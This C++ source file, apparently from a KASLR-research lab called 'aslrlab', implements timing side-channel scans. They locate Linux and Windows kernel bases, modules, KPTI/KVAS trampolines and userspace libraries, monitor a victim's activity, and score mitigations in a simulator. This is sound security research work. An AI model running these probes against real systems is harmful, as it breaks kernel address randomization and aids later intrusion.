#include "aslrlab/campaigns.hpp"

#include <algorithm>
#include <map>
#include <set>

namespace aslrlab {

const char* name(ScanStatus s) {
  switch (s) {
    case ScanStatus::Ok: return "ok";
    case ScanStatus::NotFound: return "not_found";
    case ScanStatus::Degraded: return "degraded";
  }
  return "?";
}

const char* name(AttackKind k) { return k == AttackKind::PageTable ? "pt" : "tlb"; }

AttackKind attack_kind_from_name(const std::string& s) {
  if (s == "pt") return AttackKind::PageTable;
  if (s == "tlb") return AttackKind::Tlb;
  throw ConfigError("unknown attack kind: " + s);
}

namespace {

struct Run {
  int start = 0;
  int length = 0;
};

std::vector<Run> find_runs(const std::vector<bool>& mapped) {
  std::vector<Run> runs;
  int i = 0;
  const int n = static_cast<int>(mapped.size());
  while (i < n) {
    if (!mapped[i]) {
      i++;
      continue;
    }
    int j = i;
    while (j < n && mapped[j]) j++;
    runs.push_back({i, j - i});
    i = j;
  }
  return runs;
}

}  // namespace

BaseScanResult scan_kernel_base(Prober& p, const ScanConfig& cfg) {
  using namespace layout;
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);
  std::vector<bool> mapped(kLinuxTextSlots);
  for (int s = 0; s < kLinuxTextSlots; s++) {
    const VirtAddr addr = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;
    mapped[s] = page_table_attack(p, addr, thr, cfg.policy) == MappingVerdict::Mapped;
  }
  BaseScanResult r;
  r.threshold = thr.value;
  for (const Run& run : find_runs(mapped)) {
    // Isolated single slots are discounted (a KPTI trampoline is a lone
    // page, not an image); at the top of the window a truncated image can
    // legitimately occupy a single slot.
    if (run.length >= 2 || run.start + run.length == kLinuxTextSlots) {
      r.status = ScanStatus::Ok;
      r.detected_base = kLinuxTextBase + static_cast<uint64_t>(run.start) * kPage2M;
      return r;
    }
  }
  return r;
}

ModuleScanResult scan_modules(Prober& p, const ModuleCatalog& catalog,
                              const ScanConfig& cfg) {
  using namespace layout;
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);
  std::vector<bool> mapped(kLinuxModuleSlots);
  for (int s = 0; s < kLinuxModuleSlots; s++) {
    const VirtAddr addr = kLinuxModuleBase + static_cast<uint64_t>(s) * kPage4K;
    mapped[s] = page_table_attack(p, addr, thr, cfg.policy) == MappingVerdict::Mapped;
  }
  std::multimap<uint64_t, std::string> by_size;
  for (const auto& m : catalog) by_size.emplace(m.size, m.name);

  ModuleScanResult r;
  for (const Run& run : find_runs(mapped)) {
    FoundModule fm;
    fm.base = kLinuxModuleBase + static_cast<uint64_t>(run.start) * kPage4K;
    fm.size = static_cast<uint64_t>(run.length) * kPage4K;
    auto [lo, hi] = by_size.equal_range(fm.size);
    for (auto it = lo; it != hi; ++it) fm.candidates.push_back(it->second);
    std::sort(fm.candidates.begin(), fm.candidates.end());
    r.modules.push_back(std::move(fm));
  }
  if (!r.modules.empty()) r.status = ScanStatus::Ok;
  return r;
}

AmdScanResult scan_amd_kernel(Prober& p, const ScanConfig& cfg) {
  using namespace layout;
  const ProfileHints hints = p.hints();
  if (!hints.amd_mode)
    throw CapabilityError("walk-level scan needs AMD translation policy; this target "
                          "caches kernel translations on user access");

  // Phase 1: latency per 2-MiB slot. Noise is strictly additive, so the
  // minimum over the window is the fastest mapped walk (PD-terminal).
  std::vector<Cycles> lat(kLinuxTextSlots);
  Cycles min_lat = ~0u;
  for (int s = 0; s < kLinuxTextSlots; s++) {
    const VirtAddr addr = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;
    lat[s] = measure(p, MaskedOp::Load, addr, true, cfg.policy);
    min_lat = std::min(min_lat, lat[s]);
  }
  const LevelBands bands = derive_level_bands(min_lat, hints);

  int first = -1, last = -1;
  for (int s = 0; s < kLinuxTextSlots; s++) {
    if (lat[s] < bands.pt_max) {
      if (first < 0) first = s;
      last = s;
    }
  }
  AmdScanResult r;
  if (first < 0) return r;

  // Phase 2: 4-KiB stride across the extent; pages in the PT band sit in
  // sparsely mapped blocks and their fixed build offsets anchor the base.
  for (int s = first; s <= last; s++) {
    const VirtAddr block = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;
    for (uint64_t i = 0; i < kPage2M / kPage4K; i++) {
      const VirtAddr addr = block + i * kPage4K;
      if (walk_level_attack(p, addr, bands, cfg.policy) == WalkVerdict::PT)
        r.pt_pages.push_back(addr);
    }
  }
  if (r.pt_pages.empty()) return r;

  r.detected_base = r.pt_pages.front() - kAmdPtPageOffsets[0];
  bool exact = r.pt_pages.size() == std::size(kAmdPtPageOffsets);
  if (exact) {
    for (size_t i = 0; i < r.pt_pages.size(); i++)
      exact = exact && r.pt_pages[i] == r.detected_base + kAmdPtPageOffsets[i];
  }
  r.status = exact ? ScanStatus::Ok : ScanStatus::Degraded;
  return r;
}

KptiScanResult scan_kpti(Prober& p, uint64_t trampoline_offset, const ScanConfig& cfg) {
  using namespace layout;
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);
  KptiScanResult r;
  for (int s = 0; s < kLinuxTextSlots; s++) {
    const VirtAddr addr = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;
    if (page_table_attack(p, addr, thr, cfg.policy) == MappingVerdict::Mapped) {
      r.trampoline_base = addr;
      r.detected_base = addr - trampoline_offset;
      r.status = ScanStatus::Ok;
      return r;
    }
  }
  return r;
}

WindowsScanResult scan_windows_kernel(Prober& p, const ScanConfig& cfg) {
  using namespace layout;
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);

  // Discard pass. Unmapped slots can never read fast (noise only adds), so
  // candidates are a subset of truly mapped slots; noise can only drop
  // mapped slots, and the neighborhood re-scan below recovers those.
  std::vector<int> candidates;
  for (int s = 0; s < kWindowsTextSlots; s++) {
    const VirtAddr addr = kWindowsTextBase + static_cast<uint64_t>(s) * kPage2M;
    p.probe(MaskedOp::Load, addr, true);
    if (p.probe(MaskedOp::Load, addr, true).latency < thr.value) candidates.push_back(s);
  }

  std::set<int> examine;
  for (int s : candidates) {
    for (int d = -8; d <= 8; d++) {
      const int t = s + d;
      if (t >= 0 && t < kWindowsTextSlots) examine.insert(t);
    }
  }
  std::map<int, bool> verdicts;
  for (int s : examine) {
    const VirtAddr addr = kWindowsTextBase + static_cast<uint64_t>(s) * kPage2M;
    verdicts[s] = page_table_attack(p, addr, thr, cfg.policy) == MappingVerdict::Mapped;
  }

  WindowsScanResult r;
  int run_start = -1, run_len = 0, prev = -2;
  for (const auto& [s, m] : verdicts) {
    if (!m) {
      prev = -2;
      continue;
    }
    if (s == prev + 1) {
      run_len++;
    } else {
      run_start = s;
      run_len = 1;
    }
    prev = s;
    if (run_len >= 2) {
      r.status = ScanStatus::Ok;
      r.detected_base = kWindowsTextBase + static_cast<uint64_t>(run_start) * kPage2M;
      return r;
    }
  }
  return r;
}

KvasScanResult scan_kvas(Prober& p, uint64_t kvas_offset, const ScanConfig& cfg) {
  using namespace layout;
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);
  const uint64_t window_pages = static_cast<uint64_t>(kKvasWindowSlots) * (kPage2M / kPage4K);

  // Coarse pass at a stride of 3 pages: a 3-page island always intersects
  // the grid. Two post-warm-up samples, best-of, keep the per-point
  // false-negative rate negligible; false positives cannot happen.
  std::vector<uint64_t> candidates;
  for (uint64_t i = 0; i < window_pages; i += 3) {
    const VirtAddr addr = kWindowsTextBase + i * kPage4K;
    p.probe(MaskedOp::Load, addr, true);
    const Cycles a = p.probe(MaskedOp::Load, addr, true).latency;
    const Cycles b = p.probe(MaskedOp::Load, addr, true).latency;
    if (std::min(a, b) < thr.value) candidates.push_back(i);
  }

  std::set<uint64_t> examine;
  for (uint64_t i : candidates) {
    for (int d = -4; d <= 4; d++) {
      const int64_t t = static_cast<int64_t>(i) + d;
      if (t >= 0 && t < static_cast<int64_t>(window_pages))
        examine.insert(static_cast<uint64_t>(t));
    }
  }
  std::map<uint64_t, bool> verdicts;
  for (uint64_t i : examine) {
    const VirtAddr addr = kWindowsTextBase + i * kPage4K;
    verdicts[i] = page_table_attack(p, addr, thr, cfg.policy) == MappingVerdict::Mapped;
  }

  KvasScanResult r;
  uint64_t run_start = 0;
  int run_len = 0;
  int64_t prev = -2;
  for (const auto& [i, m] : verdicts) {
    if (!m) {
      prev = -2;
      continue;
    }
    if (static_cast<int64_t>(i) == prev + 1) {
      run_len++;
    } else {
      run_start = i;
      run_len = 1;
    }
    prev = static_cast<int64_t>(i);
    if (run_len >= 2) {
      r.transition_base = kWindowsTextBase + run_start * kPage4K;
      r.detected_base = r.transition_base - kvas_offset;
      r.status = ScanStatus::Ok;
      return r;
    }
  }
  return r;
}

namespace {

struct PageRun {
  VirtAddr base = 0;
  uint64_t pages = 0;
  VirtAddr end() const { return base + pages * kPage4K; }
};

std::vector<PageRun> sweep_window(Prober& p, VirtAddr start, uint64_t pages,
                                  const Threshold& thr, const MeasurePolicy& policy) {
  std::vector<PageRun> runs;
  PageRun cur;
  for (uint64_t i = 0; i < pages; i++) {
    const VirtAddr addr = start + i * kPage4K;
    const bool mapped = measure(p, MaskedOp::Load, addr, true, policy) < thr.value;
    if (mapped) {
      if (cur.pages == 0) cur.base = addr;
      cur.pages++;
    } else if (cur.pages != 0) {
      runs.push_back(cur);
      cur = {};
    }
  }
  if (cur.pages != 0) runs.push_back(cur);
  return runs;
}

}  // namespace

UserspaceScanResult scan_userspace(Prober& p, const LibraryCatalog& catalog,
                                   int window_bits, const ScanConfig& cfg) {
  using namespace layout;
  if (window_bits < 4 || window_bits > 28)
    throw ConfigError("userspace window bits out of range");
  const Threshold thr = calibrate_threshold(p, cfg.calib_samples);
  const Cycles store_sep = calibrate_store_separator(p);
  const uint64_t window = 1ull << window_bits;

  uint64_t max_lib_pages = 256;
  for (const auto& l : catalog) {
    uint64_t len = 0;
    for (uint64_t s : l.section_sizes) len += s;
    max_lib_pages = std::max(max_lib_pages, len / kPage4K + 8);
  }
  std::vector<PageRun> code_runs =
      sweep_window(p, kUserCodeAnchor, window + 256, thr, cfg.policy);
  std::vector<PageRun> lib_runs =
      sweep_window(p, kUserLibAnchor, window + max_lib_pages, thr, cfg.policy);

  UserspaceScanResult r;
  auto classify = [&](VirtAddr first, VirtAddr last_excl, bool assume_mapped) {
    for (VirtAddr a = first; a < last_excl; a += kPage4K) {
      PageClass pc;
      pc.page = a;
      pc.verdict = permission_attack(p, a, thr, store_sep, cfg.policy, assume_mapped);
      r.pages.push_back(pc);
    }
  };

  // Library fingerprint: executable run, a fixed-size inaccessible hole,
  // then the data run (r-- and rw- are contiguous in the page tables).
  std::vector<bool> consumed(lib_runs.size(), false);
  for (const auto& lib : catalog) {
    const uint64_t rx_pages = lib.section_sizes[0] / kPage4K;
    const uint64_t none_pages = lib.section_sizes[1] / kPage4K;
    const uint64_t data_pages = (lib.section_sizes[2] + lib.section_sizes[3]) / kPage4K;
    for (size_t i = 0; i + 1 < lib_runs.size(); i++) {
      if (consumed[i] || consumed[i + 1]) continue;
      if (lib_runs[i].pages != rx_pages || lib_runs[i + 1].pages != data_pages) continue;
      if (lib_runs[i + 1].base != lib_runs[i].end() + none_pages * kPage4K) continue;
      consumed[i] = consumed[i + 1] = true;
      r.libraries.push_back({lib.name, lib_runs[i].base});
      classify(lib_runs[i].base, lib_runs[i].end(), true);
      classify(lib_runs[i].end(), lib_runs[i + 1].base, true);  // the hole: NoAccess
      classify(lib_runs[i + 1].base, lib_runs[i + 1].end(), true);
      break;
    }
  }
  for (size_t i = 0; i < lib_runs.size(); i++) {
    if (consumed[i]) continue;
    classify(lib_runs[i].base, lib_runs[i].end(), true);
    for (VirtAddr a = lib_runs[i].base; a < lib_runs[i].end(); a += kPage4K)
      r.hidden_pages.push_back(a);
  }
  for (const auto& run : code_runs) {
    classify(run.base, run.end(), true);
    if (!r.code_base && run.pages > 1) {
      r.code_base = run.base;
    } else {
      for (VirtAddr a = run.base; a < run.end(); a += kPage4K)
        r.hidden_pages.push_back(a);
    }
  }
  std::sort(r.hidden_pages.begin(), r.hidden_pages.end());
  std::sort(r.libraries.begin(), r.libraries.end(),
            [](const FoundLibrary& a, const FoundLibrary& b) { return a.base < b.base; });
  if (!r.libraries.empty() || r.code_base) r.status = ScanStatus::Ok;
  return r;
}

BaseScanResult tlb_locate_kernel(Prober& p, const std::function<void()>& victim_tick,
                                 int rounds) {
  using namespace layout;
  if (rounds < 1) throw ConfigError("tlb_locate_kernel needs at least one round");
  const ProfileHints hints = p.hints();

  // Warm baseline: the second of two back-to-back probes of the same slot
  // is the cached-translation latency when the slot is mapped. Sampling
  // every 16th slot guarantees intersecting any full-length image run, so
  // the minimum is a genuine hot kernel probe.
  Cycles baseline = ~0u;
  for (int s = 0; s < kLinuxTextSlots; s += kKernelImageSlots) {
    const VirtAddr addr = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;
    p.probe(MaskedOp::Load, addr, true);
    baseline = std::min(baseline, p.probe(MaskedOp::Load, addr, true).latency);
  }
  const Cycles separator = baseline + hints.walk_per_level / 2;

  std::vector<VirtAddr> addrs(kLinuxTextSlots);
  for (int s = 0; s < kLinuxTextSlots; s++)
    addrs[s] = kLinuxTextBase + static_cast<uint64_t>(s) * kPage2M;

  std::vector<int> votes(kLinuxTextSlots, 0);
  for (int round = 0; round < rounds; round++) {
    auto verdicts = tlb_attack(p, addrs, separator, [&](size_t) {
      p.evict_tlb();
      victim_tick();
    });
    for (int s = 0; s < kLinuxTextSlots; s++)
      if (verdicts[s] == TlbVerdict::Hit) votes[s]++;
  }

  std::vector<bool> warm(kLinuxTextSlots);
  for (int s = 0; s < kLinuxTextSlots; s++) warm[s] = votes[s] * 2 > rounds;

  BaseScanResult r;
  r.threshold = separator;
  for (const Run& run : find_runs(warm)) {
    if (run.length >= 2 || run.start + run.length == kLinuxTextSlots) {
      r.status = ScanStatus::Ok;
      r.detected_base = kLinuxTextBase + static_cast<uint64_t>(run.start) * kPage2M;
      return r;
    }
  }
  return r;
}

BehaviorTrace monitor_behavior(Prober& p, std::span<const VirtAddr> watch_pages,
                               const std::function<void(int)>& victim_tick, int ticks) {
  if (watch_pages.empty()) throw ConfigError("monitor_behavior needs watch pages");
  const ProfileHints hints = p.hints();
  // Noise is one-sided, so the minimum over a few hot probes is the clean
  // translation-hit latency; a single sample could eat an outlier and push
  // the separator past the walk band.
  p.probe(MaskedOp::Load, watch_pages[0], true);
  Cycles baseline = ~0u;
  for (int i = 0; i < 9; i++)
    baseline = std::min(baseline, p.probe(MaskedOp::Load, watch_pages[0], true).latency);

  BehaviorTrace trace;
  trace.separator = baseline + hints.walk_per_level / 2;
  trace.active.reserve(static_cast<size_t>(ticks));
  for (int t = 0; t < ticks; t++) {
    p.evict_tlb();
    victim_tick(t);
    uint64_t sum = 0;
    for (VirtAddr a : watch_pages) sum += p.probe(MaskedOp::Load, a, true).latency;
    const double mean = static_cast<double>(sum) / static_cast<double>(watch_pages.size());
    trace.active.push_back(mean < static_cast<double>(trace.separator));
  }
  return trace;
}

MitigationEvalResult evaluate_mitigation(MicroarchSim& sim, AttackKind kind,
                                         const ScanConfig& cfg) {
  using namespace layout;
  const GroundTruth& truth = sim.space().truth();
  if (!truth.kernel_base)
    throw ConfigError("mitigation evaluation needs a scenario with a kernel image");

  SimProber p(&sim);
  MitigationEvalResult r;
  r.true_base = *truth.kernel_base;

  if (kind == AttackKind::PageTable) {
    const BaseScanResult scan = scan_kernel_base(p, cfg);
    r.status = scan.status;
    r.detected_base = scan.detected_base;
  } else {
    const int slot = static_cast<int>((*truth.kernel_base - kLinuxTextBase) / kPage2M);
    const int image_slots =
        std::min(sim.space().spec().kernel_image_slots, kLinuxTextSlots - slot);
    std::vector<VirtAddr> image_pages;
    for (int s = 0; s < image_slots; s++)
      image_pages.push_back(*truth.kernel_base + static_cast<uint64_t>(s) * kPage2M);
    const BaseScanResult scan =
        tlb_locate_kernel(p, [&] { sim.touch_kernel_pages(image_pages); });
    r.status = scan.status;
    r.detected_base = scan.detected_base;
  }
  r.attack_succeeded = r.status == ScanStatus::Ok && r.detected_base == r.true_base;
  return r;
}

}  // namespace aslrlab
